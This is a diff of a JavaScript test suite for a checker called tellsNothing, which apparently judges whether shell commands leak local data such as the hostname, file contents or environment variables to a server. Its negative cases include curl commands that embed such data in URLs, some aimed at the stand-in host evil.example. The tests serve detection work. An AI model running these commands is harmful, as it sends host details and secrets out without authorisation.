@@ -18,6 +18,10 @@ test('what a server of this machine has answered may be asked of it again', () =
     'curl -s localhost:3000/y | jq -r ".[].id" | while read id; do curl -s "localhost:3000/x/$id"; done',
     'curl -s localhost:3000/y | jq -r ".[].id" | xargs -I{} curl -s localhost:3000/x/{}',
     'id=$(jq -r .id <<< "$(curl -s localhost:3000/y)"); curl -s "localhost:3000/x/$id"',
+    'for id in $(curl -s localhost:3000/y | jq -r ".[].id"); do echo $id; curl -s localhost:3000/x/$id; done',
+    'for id in 1 2 $(curl -s localhost:3000/y); do curl -s "localhost:3000/x/$id/z"; done',
+    `id=$(curl -s localhost:3000/y | python3 -c "import sys,json; print(json.load(sys.stdin)[0]['id'])"); curl -s "localhost:3000/x/$id"`,
+    `id=$(curl -s localhost:3000/y | python3 -c 'import json, sys; d = json.load(sys.stdin); print(d["a"].get("id"))'); curl -s "localhost:3000/x/$id"`,
   ])
     assert.ok(tellsNothing(text), text);
 });
@@ -25,6 +29,20 @@ test('what a server of this machine has answered may be asked of it again', () =
 test('nothing else goes along, and it goes nowhere else', () => {
   for (const text of [
     'curl -s localhost:3000/x/$(curl -s localhost:3000/y)',
+    'ID=$(curl -s localhost:3000/y | jq -r .id); curl -s localhost:3000/x/$ID',
+    'for id in "$(curl -s localhost:3000/y)"; do curl -s localhost:3000/x/$id; done',
+    'IFS=,; for id in $(curl -s localhost:3000/y); do curl -s localhost:3000/x/$id; done',
+    'for id in "a b" $(curl -s localhost:3000/y); do curl -s localhost:3000/x/$id; done',
+    'for id in $(hostname) $(curl -s localhost:3000/y); do curl -s "localhost:3000/x/$id"; done',
+    'for id in $(curl -s localhost:3000/y; cat notes.txt); do curl -s "localhost:3000/x/$id"; done',
+    'for id in $(curl -s localhost:3000/y); do [ -f a ] && id=$(curl -s localhost:3000/y); curl -s localhost:3000/x/$id; done',
+    'for id in $(curl -s localhost:3000/y); do id=$id$HOSTNAME; curl -s "localhost:3000/x/$id"; done',
+    'for id in $(curl -s localhost:3000/y); do true; done; [ -f a ] && id=$(hostname); curl -s "localhost:3000/x/$id"',
+    'for id in $(curl -s localhost:3000/y); do curl -s "localhost:3001/x/$id"; done',
+    'for id in $(curl -s localhost:3000/y); do curl -s $id; done',
+    'id=$(curl -s localhost:3000/y | python3 -c "import sys,json; print(open(0).read(), open(1))"); curl -s "localhost:3000/x/$id"',
+    'id=$(curl -s localhost:3000/y | python3 -c "import os,json; print(os.environ)"); curl -s "localhost:3000/x/$id"',
+    `id=$(curl -s localhost:3000/y | python3 -c "import sys,json; print(json.load(sys.stdin)['a'], __import__('os').environ)"); curl -s "localhost:3000/x/$id"`,
     'curl -s "localhost:3001/x/$(curl -s localhost:3000/y)"',
     'curl -s "https://evil.example/x/$(curl -s https://evil.example/y)"',
     'curl -s "localhost$(curl -s localhost:3000/y)"',
@@ -58,6 +76,10 @@ test('a number and a date that the text makes tell nothing', () => {
     'curl -s localhost:3000/x?since=$(date +%F)',
     'curl -s "localhost:3000/x?r=$RANDOM"',
     'n=1; while [ $n -le 3 ]; do curl -s "localhost:3000/x?n=$n"; n=$((n + 1)); done',
+    'n=$(date +%s); curl -s localhost:3000/$n',
+    'ts=$(date +%s%3N); curl -s "localhost:3000/x?since=$((ts - 60000))&until=$ts"',
+    'n="a-$(date +%F)"; curl -s "localhost:3000/$n"',
+    "curl -sG localhost:9090/x -d start=$(date -d '-10 min' +%s) -d end=$(date +%s) --data-urlencode 'query=up'",
   ])
     assert.ok(tellsNothing(text), text);
   for (const text of [
@@ -66,6 +88,12 @@ test('a number and a date that the text makes tell nothing', () => {
     'x=$(cat pin); y=$((x + 1)); curl -s "localhost:3000/x/$y"',
     'n=1; [ -f a ] && n=$(cat pin); n=$((n + 1)); curl -s "localhost:3000/x/$n"',
     'IFS=1; curl -s localhost:3000/x/$(date +%s)',
+    'n=$(date -f notes.txt +%s); curl -s localhost:3000/x/$n',
+    'n=$(date +%s; hostname); curl -s localhost:3000/x/$n',
+    'n=$(date +%s)$HOSTNAME; curl -s localhost:3000/x/$n',
+    'n=$(date +%s); [ -f a ] && n=$(cat pin); curl -s localhost:3000/x/$n',
+    'n=$(date +%s); n+=$(hostname); curl -s localhost:3000/x/$n',
+    'curl -sG localhost:9090/x -d start=$(date +%s) -d "host=$(hostname)"',
     'curl -s "https://evil.example/?d=$(date +%s)"',
   ])
     assert.ok(!tellsNothing(text), text);
